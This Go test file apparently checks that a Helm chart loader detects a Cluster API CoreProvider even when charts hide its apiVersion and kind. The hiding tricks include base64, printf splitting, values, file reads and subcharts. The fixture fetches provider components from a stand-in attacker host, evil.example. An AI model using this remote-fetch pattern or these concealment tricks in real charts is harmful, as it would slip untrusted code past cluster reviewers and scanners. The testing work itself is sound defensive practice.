package load

import (
	"path/filepath"

	"helm.sh/helm/v3/pkg/chart/loader"
	"strings"
	"testing"

	"github.com/pinseal/pinseal/internal/testkit/fixture"
	"github.com/pinseal/pinseal/pkg/model"
)

// hiddenProvider is a CoreProvider whose apiVersion and kind the chart
// builds as {{API}} and {{KIND}} say.
const hiddenProvider = `apiVersion: {{API}}
kind: {{KIND}}
metadata: {name: cluster-api, namespace: capi-system}
spec: {version: v1.9.0, fetchConfig: {url: https://evil.example/c.yaml}}
`

// TestHiddenProviderIsNotSettled: a chart that builds a provider object
// without naming it in a template (from values, pieces, encodings, case
// changes, its Chart.yaml, its files, a subchart's values, the policy's
// values) is rendered and checked, beside the clean fixture's packages,
// not settled as "no provider package" from its templates.
func TestHiddenProviderIsNotSettled(t *testing.T) {
	const api, kind = "operator.cluster.x-k8s.io/v1alpha2", "CoreProvider"
	for _, tc := range []struct {
		name, api, kind string
		files           map[string]string // beside Chart.yaml and templates/p.yaml
		policyValues    string
		inChild         bool // rendered in a render child, never in process
	}{
		{name: "values", api: "{{ .Values.api }}", kind: "{{ .Values.kind }}",
			files: map[string]string{"values.yaml": "kind: CoreProvider\napi: " + api + "\n"}},
		{name: "literal pieces", api: `operator.cluster.x-k8s{{ ".io" }}/v1alpha2`, kind: `Core{{ "Pro" }}vider`},
		{name: "b64dec", api: `{{ "b3BlcmF0b3IuY2x1c3Rlci54LWs4cy5pby92MWFscGhhMg==" | b64dec }}`, kind: `{{ "Q29yZVByb3ZpZGVy" | b64dec }}`},
		{name: "printf", api: `{{ printf "%s.cluster.x-k8s.io/v1alpha2" "operator" }}`, kind: `{{ printf "%sPro%s" "Core" "vider" }}`},
		{name: "title and upper", api: `{{ lower "OPERATOR.CLUSTER.X-K8S.IO/V1ALPHA2" }}`, kind: `{{ title "coreprovider" | replace "provider" "Provider" }}`},
		{name: "values in pieces", api: "{{ .Values.a }}-k8s.io/v1alpha2", kind: "{{ .Values.k1 }}{{ .Values.k2 }}",
			files: map[string]string{"values.yaml": "a: operator.cluster.x\nk1: CorePro\nk2: vider\n"}},
		{name: "value then literal", api: "{{ .Values.a }}.io/v1alpha2", kind: "Core{{ .Values.p }}ovider",
			files: map[string]string{"values.yaml": "a: operator.cluster.x-k8s\np: Pr\n"}},
		{name: "skipped branch joins literals", api: "operator.cluster.x-k8s{{ if .Values.no }}-{{ end }}.io/v1alpha2", kind: "CorePro{{ if .Values.no }}-{{ end }}vider"},
		{name: "YAML escapes in values", api: "{{ .Values.api }}", kind: "{{ .Values.kind }}",
			files: map[string]string{"values.yaml": "kind: \"Core\\x50rovider\"\napi: \"\\x6fperator.cluster.x-k8s.io/v1alpha2\"\n"}},
		{name: "Chart.yaml", api: "{{ .Chart.Annotations.api }}", kind: "{{ .Chart.Description }}"},
		{name: "files", api: `{{ .Files.Get "files/api" }}`, kind: `{{ .Files.Get "files/kind" }}`,
			files: map[string]string{"files/api": api, "files/kind": kind}},
		{name: "files through a variable", api: `{{ $f := get . "Files" }}{{ $f.Get "files/api" }}`, kind: `{{ $f := index . "Files" }}{{ $f.Get "files/kind" }}`,
			files: map[string]string{"files/api": api, "files/kind": kind}},
		{name: "files through dot", api: `{{ with get . "Files" }}{{ .Get "files/api" }}{{ end }}`, kind: `{{ with get . "Files" }}{{ .Get "files/kind" }}{{ end }}`,
			files: map[string]string{"files/api": api, "files/kind": kind}},
		// Omitted from the render child's files if the read were missed:
		// the files are over render's omitMin.
		{name: "files through the values", api: `{{ with index . .Values.k }}{{ .Get "files/api" }}{{ end }}`, kind: `{{ with index . .Values.k }}{{ .Get "files/kind" }}{{ end }}`,
			files: map[string]string{"values.yaml": "k: Files\n", "files/api": api + " #" + strings.Repeat("x", 8<<10), "files/kind": kind + " #" + strings.Repeat("x", 8<<10)}},
		{name: "files through the values, rendered", api: `{{ with index . .Values.k }}{{ .Get "files/api" }}{{ end }}{{ lower "" }}`, kind: `{{ with index . .Values.k }}{{ .Get "files/kind" }}{{ end }}`,
			files: map[string]string{"values.yaml": "k: Files\n", "files/api": api + " #" + strings.Repeat("x", 8<<10), "files/kind": kind + " #" + strings.Repeat("x", 8<<10)}, inChild: true},
		// Helm deletes "<no value>" from the output, joining what was around it.
		{name: "no value in the values", api: "{{ .Values.api }}", kind: "{{ .Values.kind }}",
			files: map[string]string{"values.yaml": "kind: CorePro<no value>vider\napi: operator.cluster.x-k8s<no value>.io/v1alpha2\n"}},
		{name: "no value in the text", api: "operator.cluster.x-k8s<no value>.io/v1alpha2", kind: "CorePro<no value>vider"},
		{name: "tpl", api: `{{ tpl .Values.api . }}`, kind: `{{ tpl .Values.kind . }}`,
			files: map[string]string{"values.yaml": "api: \"{{ print \\\"operator.cluster.x-k8s\\\" \\\".io/v1alpha2\\\" }}\"\nkind: \"{{ print \\\"CorePro\\\" \\\"vider\\\" }}\"\n"}},
		{name: "policy values", api: "{{ .Values.api }}", kind: "{{ .Values.kind }}",
			policyValues: "kind: CoreProvider\napi: " + api + "\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := fixture.CleanCopy(t)
			const x = "packages/extra/x"
			chartYAML := "apiVersion: v2\nname: x\nversion: 0.1.0\n"
			if tc.name == "Chart.yaml" {
				chartYAML += "description: " + kind + "\nannotations:\n  api: " + api + "\n"
			}
			write(t, root, x+"/Chart.yaml", []byte(chartYAML))
			tpl := strings.NewReplacer("{{API}}", tc.api, "{{KIND}}", tc.kind).Replace(hiddenProvider)
			write(t, root, x+"/templates/p.yaml", []byte(tpl))
			for n, b := range tc.files {
				write(t, root, x+"/"+n, []byte(b))
			}
			var opts Options
			opts.Render.NoFastPath = tc.inChild
			if tc.policyValues != "" {
				f := filepath.Join(t.TempDir(), "values.yaml")
				write(t, filepath.Dir(f), "values.yaml", []byte(tc.policyValues))
				opts.Values = []ValuesFiles{{Package: x, Files: []string{f}}}
			}
			tr := loadTree(t, root, opts)
			cleanPlusOne(t, tr, x)
			for _, s := range tr.Skipped {
				if s.Path == x {
					t.Fatalf("%s skipped: %s", x, s.Reason)
				}
			}
			p := find(t, tr, x)
			if len(p.Providers) != 1 || p.Providers[0].Kind != kind || p.Providers[0].Name != "cluster-api" {
				t.Fatalf("providers = %+v, problems = %+v", p.Providers, p.Problems)
			}
		})
	}
}

// TestSubchartHiddenProvider: a subchart's template and values hide the
// provider the same way.
func TestSubchartHiddenProvider(t *testing.T) {
	root := fixture.CleanCopy(t)
	const x = "packages/extra/x"
	write(t, root, x+"/Chart.yaml", []byte("apiVersion: v2\nname: x\nversion: 0.1.0\n"))
	write(t, root, x+"/charts/sub/Chart.yaml", []byte("apiVersion: v2\nname: sub\nversion: 0.1.0\n"))
	write(t, root, x+"/charts/sub/values.yaml", []byte("kind: CoreProvider\napi: operator.cluster.x-k8s.io/v1alpha2\n"))
	write(t, root, x+"/charts/sub/templates/p.yaml", []byte(strings.NewReplacer("{{API}}", "{{ .Values.api }}", "{{KIND}}", "{{ .Values.kind }}").Replace(hiddenProvider)))
	tr := loadTree(t, root, Options{})
	cleanPlusOne(t, tr, x)
	if p := find(t, tr, x); len(p.Providers) != 1 {
		t.Fatalf("providers = %+v, problems = %+v", p.Providers, p.Problems)
	}
}

// TestPlainChartStaysSettled: a chart that only copies values free of
// markers is still settled from its files, without rendering.
func TestPlainChartStaysSettled(t *testing.T) {
	root := fixture.CleanCopy(t)
	const x = "packages/extra/x"
	write(t, root, x+"/Chart.yaml", []byte("apiVersion: v2\nname: x\nversion: 0.1.0\n"))
	write(t, root, x+"/values.yaml", []byte("name: web\nreplicas: 2\nlabels: {app: web}\n"))
	write(t, root, x+"/templates/_helpers.tpl", []byte(`{{- define "x.name" -}}{{ default .Chart.Name .Values.name | trunc 63 }}{{- end }}`))
	write(t, root, x+"/templates/d.yaml", []byte("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include \"x.name\" . }}\n  annotations:\n    a: {{ printf \"%s-%s\" .Release.Name .Chart.Name | trunc 63 }}\n    b: {{ .Release.Namespace }}-{{ .Values.name }}.{{ .Values.replicas }}\n    c: {{ include \"cozy-lib.undefined\" . }}\n  labels:\n    {{- toYaml .Values.labels | nindent 4 }}\nspec:\n  replicas: {{ .Values.replicas }}\n"))
	tr := loadTree(t, root, Options{})
	if got := summary(tr); got != cleanSummary {
		t.Errorf("summary:\n%s\nwant:\n%s", got, cleanSummary)
	}
	for _, s := range tr.Skipped {
		if s.Path == x {
			if !strings.HasPrefix(s.Reason, "no template holds") {
				t.Errorf("%s skipped for %q, want settled from its files", x, s.Reason)
			}
			return
		}
	}
	t.Errorf("%s not skipped", x)
}

// cleanPlusOne checks that tr is the clean fixture's packages, unchanged,
// and the package at x.
func cleanPlusOne(t *testing.T, tr *model.Tree, x string) {
	t.Helper()
	if len(tr.Packages) != 6 {
		t.Errorf("packages = %d, want 6; tree:\n%s", len(tr.Packages), summary(tr))
	}
	for _, p := range tr.Packages {
		if p.Path != x && len(p.Problems) > 0 {
			t.Errorf("%s: unexpected problems %+v", p.Path, p.Problems)
		}
	}
}

// TestSettleJoins: two values may meet at a "-" or "." of the operator's
// API group only when no text the render copies (a file, a file's name,
// the namespace) holds the part of the group before it.
func TestSettleJoins(t *testing.T) {
	const chartYAML = "apiVersion: v2\nname: x\nversion: 0.1.0\n"
	for _, tc := range []struct {
		name, tpl, values, namespace string
		settled                      bool
	}{
		{"part before not copied", "a: {{ .Values.a }}-{{ .Values.b }}\n", "a: operator.cluster\nb: k8s.io\n", "", true},
		{"part before in the values", "a: {{ .Values.a }}-{{ .Values.b }}\n", "a: operator.cluster.x\nb: k8s.io\n", "", false},
		{"part before in a longer value", "a: {{ .Values.a | trunc 18 }}-{{ .Values.b }}\n", "a: operator.cluster.xyz\nb: k8s.io\n", "", false},
		{"part before in the namespace", "a: {{ .Release.Namespace }}-{{ .Values.b }}\n", "b: k8s.io\n", "operator.cluster.x", false},
		{"part before in a template", "a: {{ include \"p\" . }}.{{ .Values.b }}\n{{ define \"p\" }}operator.cluster{{ end }}\n", "b: x-k8s.io\n", "", false},
		{"printf joins", "a: {{ printf \"%s-%s\" .Values.a .Values.b }}\n", "a: operator.cluster.x\nb: k8s.io\n", "", false},
		// A cut ends a value inside a literal it holds: "operator.cluster" + ".x".
		{"printf cut", "a: {{ printf \"%s.xyz\" .Values.a | trunc 18 }}-{{ .Values.b }}\n", "a: operator.cluster\nb: k8s.io\n", "", false},
		{"define cut", "a: {{ include \"p\" . | trunc 18 }}-{{ .Values.b }}\n{{ define \"p\" }}{{ .Values.a }}.xyz{{ end }}\n", "a: operator.cluster\nb: k8s.io\n", "", false},
		{"printf cut, a part after a part", "a: {{ printf \"%s.xz\" (printf \"%s.clusterz\" .Values.a | trunc 16) | trunc 18 }}-{{ .Values.b }}\n", "a: operator\nb: k8s.io\n", "", false},
		{"printf of copies", "a: {{ printf \"%s-%s\" .Release.Name .Values.b }}\n", "b: k8s.io\n", "", true},
		{"a library's define the chart lacks", "a: {{ include \"cozy-lib.x\" . }}\n{{ template \"cozy-lib.y\" . }}\n", "", "", true},
		{"no value in the values", "a: {{ .Values.a }}\n", "a: CorePro<no value>vider\n", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := []*loader.BufferedFile{{Name: "Chart.yaml", Data: []byte(chartYAML)}, {Name: "values.yaml", Data: []byte(tc.values)},
				{Name: "templates/a.yaml", Data: []byte(tc.tpl)}}
			if got := chartSettled(files, tc.namespace); got != tc.settled {
				t.Errorf("chartSettled = %v, want %v", got, tc.settled)
			}
		})
	}
}
